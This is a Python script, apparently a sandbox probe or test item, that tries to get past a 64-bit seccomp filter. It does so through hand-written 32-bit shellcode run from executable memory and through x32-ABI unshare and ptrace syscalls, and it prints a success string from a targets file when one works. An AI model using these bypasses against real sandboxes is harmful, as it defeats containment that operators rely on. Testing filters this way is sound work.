# Makes system calls in the ways that a filter for 64 bits may have forgotten: of 32 bits, of x32.
import ctypes
import json
import mmap
import os
import platform

targets = json.load(open("targets.json"))
libc = ctypes.CDLL(None, use_errno=True)


def of_32_bits():
    # push rbx; mov eax, 310 (unshare); mov ebx, CLONE_NEWUSER; int 0x80; pop rbx; ret
    code = b"\x53\xb8\x36\x01\x00\x00\xbb\x00\x00\x00\x10\xcd\x80\x5b\xc3"
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()


ways = (
    of_32_bits,
    lambda: libc.syscall(0x40000000 | 272, 0x10000000),  # unshare
    lambda: libc.syscall(0x40000000 | 272, 0x20000),
    lambda: libc.syscall(0x40000000 | 521, 0, 1, 0, 0),  # ptrace
)
for way in ways if platform.machine() == "x86_64" else ():
    child = os.fork()
    if child == 0:
        os._exit(7 if way() == 0 else 0)
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7:
        print(targets["success"])
